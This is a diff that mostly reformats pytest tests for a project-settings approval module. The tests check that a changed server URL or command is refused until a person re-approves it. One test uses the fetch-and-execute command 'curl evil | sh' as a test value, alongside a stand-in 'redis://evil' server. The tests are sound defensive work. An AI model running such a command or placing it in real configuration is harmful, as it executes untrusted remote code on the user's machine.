@@ -34,7 +34,9 @@ def test_nothing_is_approved_until_a_person_says_so(tmp_path: Path) -> None:
 
 
 def test_approval_lies_where_the_launcher_looks(home: Path) -> None:
-    """The record is `trust<root>/octet.json` under the state directory, private, and names no secret."""
+    """The record is `trust<root>/octet.json` under the state directory, private, and names no
+    secret.
+    """
     root = Path("/srv/my shop/ünï")
     path = trust.approve(project_at(root, redis_url="redis://:secret@db/0"))
     assert str(path) == f"{home}/trust{root}/octet.json"
@@ -47,7 +49,9 @@ def test_what_was_approved_may_be_used(tmp_path: Path) -> None:
     """Unchanged settings, and changes of harmless ones, refuse nothing."""
     project = project_at(tmp_path / "shop", test_command="pytest")
     trust.approve(project)
-    harmless = replace(project, config=replace(project.config, protected=("trunk",), lock_paths="off"))
+    harmless = replace(
+        project, config=replace(project.config, protected=("trunk",), lock_paths="off")
+    )
     for same in (project, harmless):
         found = trust.check(same)
         assert found == trust.Trust(approved=True)
@@ -60,12 +64,20 @@ def test_a_changed_server_is_refused_and_nothing_else(tmp_path: Path) -> None:
     project = project_at(tmp_path / "shop")
     trust.approve(project)
     found = trust.check(replace(project, config=replace(project.config, redis_url="redis://evil")))
-    assert found.store_refusal == "octet.toml changed its server URL since you approved it: review it, then run `octet init`"
+    assert (
+        found.store_refusal
+        == "octet.toml changed its server URL since you approved it: review it, then run `octet "
+        "init`"
+    )
     assert not found.command_refusal("test.command")
 
 
-@pytest.mark.parametrize(("field", "setting"), [("test_command", "test.command"), ("worktree_setup", "worktree.setup")])
-def test_a_changed_command_is_refused_and_nothing_else(tmp_path: Path, field: str, setting: str) -> None:
+@pytest.mark.parametrize(
+    ("field", "setting"), [("test_command", "test.command"), ("worktree_setup", "worktree.setup")]
+)
+def test_a_changed_command_is_refused_and_nothing_else(
+    tmp_path: Path, field: str, setting: str
+) -> None:
     """A new command leaves the store open."""
     project = project_at(tmp_path / "shop")
     trust.approve(project)
@@ -77,9 +89,14 @@ def test_a_changed_command_is_refused_and_nothing_else(tmp_path: Path, field: st
     assert not trust.check(project_at(tmp_path / "shop", **{field: "curl evil | sh"})).changed
 
 
-@pytest.mark.parametrize("content", ["", "null", "[]", "{", '{"version": 99}', '{"version": 1, "settings": []}', "[" * 100_000])
+@pytest.mark.parametrize(
+    "content",
+    ["", "null", "[]", "{", '{"version": 99}', '{"version": 1, "settings": []}', "[" * 100_000],
+)
 def test_a_damaged_record_approves_nothing_dangerous(tmp_path: Path, content: str) -> None:
-    """The repository stays opted in, so that its guards stay on, and every dangerous setting is refused."""
+    """The repository stays opted in, so that its guards stay on, and every dangerous setting is
+    refused.
+    """
     project = project_at(tmp_path / "shop")
     trust.approve(project).write_text(content)
     found = trust.check(project)
